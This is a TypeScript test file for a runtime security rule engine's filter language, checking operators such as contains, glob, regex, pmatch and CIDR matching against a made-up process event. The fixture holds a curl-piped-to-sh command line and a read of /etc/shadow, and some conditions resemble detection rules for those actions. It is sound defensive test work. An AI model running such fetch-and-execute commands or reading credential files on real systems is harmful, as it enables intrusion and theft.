import { describe, expect, it } from 'vitest';
import { toyEvent, type ToyEvent } from '../../../support/toy-fields.js';
import { compileFailure, matches } from './helpers.js';

const proc = toyEvent({
  'evt.type': 'execve',
  'proc.name': 'bash',
  'proc.exepath': '/usr/bin/bash',
  'proc.cmdline': 'bash -c "curl http://x | sh"',
  'proc.pid': 4242,
  'proc.tty': 34816,
  'user.uid': 0,
  'user.loginuid': -1,
  'proc.duration': 5_000_000_000n,
  'proc.is_exe_upper_layer': true,
  'container.privileged': false,
  'fd.name': '/etc/shadow',
  'fd.sip': '10.1.2.3',
  'fd.cip': '2001:db8::7',
  'fd.snet': '192.168.10.20',
  'fd.sport': 443,
  'evt.buffer': new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01]),
  'toy.ratio': 0.75,
  'ka.req.pod.containers.image': ['nginx:1.25', 'busybox'],
  'ka.req.pod.containers.host_port': [80, 443],
});

describe('string operators', () => {
  it.each<[string, boolean]>([
    ['proc.name = bash', true],
    ['proc.name == bash', true],
    ['proc.name = Bash', false],
    ['proc.name != bash', false],
    ['proc.name != zsh', true],
    ['proc.cmdline contains curl', true],
    ['proc.cmdline contains CURL', false],
    ['proc.cmdline icontains CURL', true],
    ['proc.cmdline icontains wget', false],
    ['proc.exepath startswith /usr/', true],
    ['proc.exepath startswith /bin', false],
    ['proc.exepath endswith /bash', true],
    ['proc.exepath endswith sh', true],
    ['proc.exepath endswith zsh', false],
    ['proc.name in (sh, bash, zsh)', true],
    ['proc.name in (sh, zsh)', false],
    ['proc.name intersects (bash)', true],
    ['proc.name startswith ""', true],
    // The grammar takes only numbers after an ordering operator; on a string they compare as text.
    ['proc.name > 1', true],
    ['proc.name < 1', false],
    ['proc.name contains ""', true],
  ])('%s → %s', (condition, expected) => {
    expect(matches(condition, proc)).toBe(expected);
  });
});

describe('glob and iglob (fnmatch without path semantics)', () => {
  it.each<[string, string, boolean]>([
    ['/usr/bin/*', '/usr/bin/bash', true],
    ['/usr/*', '/usr/bin/bash', true], // `*` crosses `/`
    ['/usr/bin/?ash', '/usr/bin/bash', true],
    ['/usr/bin/[bcd]ash', '/usr/bin/bash', true],
    ['/usr/bin/[!b]ash', '/usr/bin/bash', false],
    ['/usr/bin/[^b]ash', '/usr/bin/dash', true],
    ['/usr/bin/[a-c]ash', '/usr/bin/bash', true],
    ['/usr/bin/[[:alpha:]]ash', '/usr/bin/bash', true],
    ['*bash', '/usr/bin/bash', true],
    ['*bas', '/usr/bin/bash', false],
    ['/usr/bin/\\*', '/usr/bin/*', true],
    ['/usr/bin/\\*', '/usr/bin/bash', false],
    ['*.*', 'abc', false],
    ['**b**a**', 'xxbyyazz', true],
    ['/USR/*', '/usr/bin/bash', false],
  ])('glob %s on %s → %s', (pattern, path, expected) => {
    expect(matches(`fd.name glob "${pattern.replace(/\\/g, '\\\\')}"`, toyEvent({ 'fd.name': path }))).toBe(expected);
  });

  it('iglob folds case', () => {
    expect(matches('fd.name iglob "/USR/*"', toyEvent({ 'fd.name': '/usr/bin/bash' }))).toBe(true);
    expect(matches('fd.name iglob "/usr/BIN/[A-C]ASH"', toyEvent({ 'fd.name': '/usr/bin/bash' }))).toBe(true);
  });

  it('a pathological pattern finishes on a long input', () => {
    const text = 'a'.repeat(5000);
    expect(matches(`fd.name glob "${'*a'.repeat(20)}b"`, toyEvent({ 'fd.name': text }))).toBe(false);
  });
});

describe('regex (RE2, full match)', () => {
  it.each<[string, string, boolean]>([
    ['ba.h', 'bash', true],
    ['ba', 'bash', false], // full match, not search
    ['.*as.*', 'bash', true],
    ['(ba|z)sh', 'zsh', true],
    ['[a-z]+', 'bash1', false],
  ])('regex %s on %s → %s', (pattern, name, expected) => {
    expect(matches(`proc.name regex "${pattern}"`, toyEvent({ 'proc.name': name }))).toBe(expected);
  });

  it('runs in linear time on a pattern built to backtrack', () => {
    expect(matches('proc.name regex "(a+)+$"', toyEvent({ 'proc.name': `${'a'.repeat(50_000)}b` }))).toBe(false);
  });

  it('rejects an invalid pattern at compile time', () => {
    expect(compileFailure('proc.name regex "(a"').reason).toBe('bad_regex');
  });
});

describe('pmatch (path prefix)', () => {
  it.each<[string, boolean]>([
    ['/usr/bin', true],
    ['/usr/bin/ls', true],
    ['/usr/bin/x/y', true],
    ['/usr/binx', false],
    ['/usr', false],
    ['/etc/passwd', true],
    ['/etc/passwd2', false],
    ['/etc', false],
  ])('%s → %s', (path, expected) => {
    expect(matches('fd.name pmatch (/usr/bin, /etc/passwd)', toyEvent({ 'fd.name': path }))).toBe(expected);
  });

  it('a trailing slash in the prefix makes no difference', () => {
    expect(matches('fd.name pmatch (/usr/bin/)', toyEvent({ 'fd.name': '/usr/bin/ls' }))).toBe(true);
  });

  it('skips empty components, as libsinsp splits paths', () => {
    expect(matches('fd.name pmatch (/usr/bin)', toyEvent({ 'fd.name': '/usr//bin/ls' }))).toBe(true);
    expect(matches('fd.name pmatch (/usr/bin)', toyEvent({ 'fd.name': 'usr/bin/ls' }))).toBe(true);
  });

  it('/ matches every path', () => {
    expect(matches('fd.name pmatch (/)', toyEvent({ 'fd.name': '/anything/at/all' }))).toBe(true);
  });

  it('a component with glob characters matches one path component', () => {
    const condition = 'fd.name pmatch ("/var/lib/*/data", /etc/ssh)';
    expect(matches(condition, toyEvent({ 'fd.name': '/var/lib/mysql/data/ibdata1' }))).toBe(true);
    expect(matches(condition, toyEvent({ 'fd.name': '/var/lib/mysql/logs' }))).toBe(false);
    expect(matches(condition, toyEvent({ 'fd.name': '/var/lib/a/b/data' }))).toBe(false);
    expect(matches(condition, toyEvent({ 'fd.name': '/etc/ssh/sshd_config' }))).toBe(true);
  });
});

describe('numeric operators', () => {
  it.each<[string, boolean]>([
    ['proc.pid = 4242', true],
    ['proc.pid != 4242', false],
    ['proc.pid < 5000', true],
    ['proc.pid <= 4242', true],
    ['proc.pid > 4242', false],
    ['proc.pid >= 4242', true],
    ['proc.pid in (1, 4242)', true],
    ['proc.pid in (1, 2)', false],
    ['proc.pid intersects (4242)', true],
    ['proc.pid = 0x1092', true],
    ['user.loginuid = -1', true],
    ['user.loginuid < 0', true],
    ['user.uid = 0', true],
    ['proc.tty != 0', true],
    ['proc.duration > 1000000000', true],
    ['proc.duration = 5000000000', true],
    ['proc.duration < 18446744073709551615', true],
    ['toy.ratio > 0.5', true],
    ['toy.ratio = 0.75', true],
    ['toy.ratio <= 0.7', false],
    ['fd.sport in (80, 443)', true],
  ])('%s → %s', (condition, expected) => {
    expect(matches(condition, proc)).toBe(expected);
  });

  it('compares 64-bit values given as bigint exactly', () => {
    const big = toyEvent({ 'evt.rawtime': 1732270830123456789n });
    expect(matches('evt.rawtime = 1732270830123456789', big)).toBe(true);
    expect(matches('evt.rawtime = 1732270830123456788', big)).toBe(false);
    expect(matches('evt.rawtime > 1732270830123456788', big)).toBe(true);
    expect(matches('evt.rawtime in (1, 1732270830123456789)', big)).toBe(true);
  });

  it.each([
    'proc.pid = abc',
    'proc.pid = 1.5',
    'user.uid = -1',
    'proc.pid = 9223372036854775808',
    'user.uid = 18446744073709551616',
    'toy.ratio = x',
    'proc.pid in (1, two)',
  ])('%s is a bad value', (condition) => {
    expect(compileFailure(condition).reason).toBe('bad_value');
  });
});

describe('booleans', () => {
  it.each<[string, boolean]>([
    ['proc.is_exe_upper_layer = true', true],
    ['proc.is_exe_upper_layer = false', false],
    ['proc.is_exe_upper_layer != false', true],
    ['container.privileged = false', true],
    ['container.privileged in (true)', false],
  ])('%s → %s', (condition, expected) => {
    expect(matches(condition, proc)).toBe(expected);
  });

  it('accepts only true and false', () => {
    expect(compileFailure('container.privileged = yes').reason).toBe('bad_value');
    expect(compileFailure('container.privileged = 1').reason).toBe('bad_value');
  });
});

describe('byte buffers', () => {
  it.each<[string, boolean]>([
    ['evt.buffer bcontains 454c46', true],
    ['evt.buffer bcontains 454C46', true],
    ['evt.buffer bcontains 464c45', false],
    ['evt.buffer bstartswith 7f454c46', true],
    ['evt.buffer bstartswith 454c46', false],
    ['evt.buffer contains ELF', true],
    ['evt.buffer startswith ELF', false],
  ])('%s → %s', (condition, expected) => {
    expect(matches(condition, proc)).toBe(expected);
  });

  it('rejects a value that is not hex', () => {
    expect(compileFailure('evt.buffer bcontains 7f4').reason).toBe('bad_value');
    expect(compileFailure('evt.buffer bcontains zz').reason).toBe('bad_value');
  });
});

describe('IP addresses and networks', () => {
  it.each<[string, boolean]>([
    ['fd.sip = 10.1.2.3', true],
    ['fd.sip = 10.1.2.4', false],
    ['fd.sip != 10.1.2.4', true],
    ['fd.sip = 10.0.0.0/8', true],
    ['fd.sip = 192.168.0.0/16', false],
    ['fd.sip in (192.168.0.0/16, 10.0.0.0/8)', true],
    ['fd.sip in (127.0.0.1, 10.1.2.3)', true],
    ['fd.cip = 2001:db8::7', true],
    ['fd.cip = 2001:0db8:0:0:0:0:0:7', true],
    ['fd.cip = 2001:db8::/32', true],
    ['fd.cip = 10.0.0.0/8', false],
    ['fd.cip != 10.0.0.0/8', true],
    ['fd.snet = 192.168.0.0/16', true],
    ['fd.snet in (10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16)', true],
    ['fd.snet in (10.0.0.0/8, 172.16.0.0/12)', false],
  ])('%s → %s', (condition, expected) => {
    expect(matches(condition, proc)).toBe(expected);
  });

  it('rejects malformed addresses and networks', () => {
    expect(compileFailure('fd.sip = 10.1.2').reason).toBe('bad_value');
    expect(compileFailure('fd.sip = 10.0.0.0/33').reason).toBe('bad_value');
    expect(compileFailure('fd.snet = nope').reason).toBe('bad_value');
  });
});

describe('list fields', () => {
  it.each<[string, boolean]>([
    ['ka.req.pod.containers.image in (nginx:1.25, busybox, redis)', true],
    ['ka.req.pod.containers.image in (nginx:1.25)', false],
    ['ka.req.pod.containers.image intersects (busybox)', true],
    ['ka.req.pod.containers.image intersects (redis)', false],
    ['ka.req.pod.containers.host_port intersects (443)', true],
    ['ka.req.pod.containers.host_port in (80, 443, 8080)', true],
    ['ka.req.pod.containers.image exists', true],
  ])('%s → %s', (condition, expected) => {
    expect(matches(condition, proc)).toBe(expected);
  });

  it('an empty list is in every set and intersects none', () => {
    const empty = toyEvent({ 'ka.req.pod.containers.image': [] });
    expect(matches('ka.req.pod.containers.image in (a)', empty)).toBe(true);
    expect(matches('ka.req.pod.containers.image intersects (a)', empty)).toBe(false);
  });

  it.each(['ka.req.pod.containers.image = nginx', 'ka.req.pod.containers.image contains nginx', 'ka.req.pod.containers.host_port > 1'])(
    '%s is not allowed on a list field',
    (condition) => {
      expect(compileFailure(condition).reason).toBe('bad_operator_for_type');
    },
  );
});

describe('exists', () => {
  it('is true when the field has a value, false otherwise', () => {
    expect(matches('proc.name exists', proc)).toBe(true);
    expect(matches('proc.pname exists', proc)).toBe(false);
    expect(matches('not proc.pname exists', proc)).toBe(true);
  });
});

describe('operators a type does not admit are compile errors', () => {
  it.each([
    'proc.pid startswith 1',
    'proc.pid contains 1',
    'proc.pid glob 1*',
    'proc.pid regex 1',
    'proc.pid pmatch (/1)',
    'proc.pid bcontains 01',
    'container.privileged < 1',
    'container.privileged contains t',
    'proc.name bcontains 00',
    'proc.name bstartswith 00',
    'fd.sip contains 10',
    'fd.sip < 1',
    'fd.snet startswith 10',
    'evt.buffer glob x',
    'evt.buffer < 1',
    'evt.buffer icontains x',
    'evt.buffer regex x',
  ])('%s', (condition) => {
    const error = compileFailure(condition);
    expect(error.code).toBe('SAKER_ERR_COMPILE');
    expect(error.reason).toBe('bad_operator_for_type');
  });

  it('points at the check', () => {
    const error = compileFailure('proc.name = bash and proc.pid startswith 1');
    expect(error.pos).toEqual({ offset: 21, line: 1, column: 22 });
  });
});

describe('a check whose field has no value is false for every operator', () => {
  const empty: ToyEvent = toyEvent({ 'evt.type': 'open' });
  it.each([
    'proc.name = bash',
    'proc.name != bash',
    'proc.name contains a',
    'proc.name icontains a',
    'proc.name startswith ""',
    'proc.name endswith ""',
    'proc.name glob *',
    'proc.name iglob *',
    'proc.name regex ".*"',
    'proc.name in (a, b)',
    'proc.name intersects (a)',
    'fd.name pmatch (/)',
    'proc.pid = 1',
    'proc.pid != 1',
    'proc.pid < 1',
    'proc.pid >= 0',
    'proc.pid in (1)',
    'container.privileged = true',
    'container.privileged != true',
    'evt.buffer bcontains 00',
    'evt.buffer != x',
    'fd.sip = 10.0.0.0/8',
    'fd.sip != 10.0.0.0/8',
    'fd.snet in (10.0.0.0/8)',
    'ka.req.pod.containers.image in (a)',
    'ka.req.pod.containers.image intersects (a)',
    'proc.aname[3] = x',
    'proc.env[HOME] != /root',
    'evt.arg.flags contains O_',
    'tolower(proc.name) != x',
    'len(proc.name) != 3',
    'proc.name = val(proc.pname)',
    'proc.name != val(proc.pname)',
    'proc.name exists',
  ])('%s', (condition) => {
    expect(matches(condition, empty)).toBe(false);
    expect(matches(`not ${condition.includes(' exists') ? condition : `(${condition})`}`, empty)).toBe(true);
  });
});
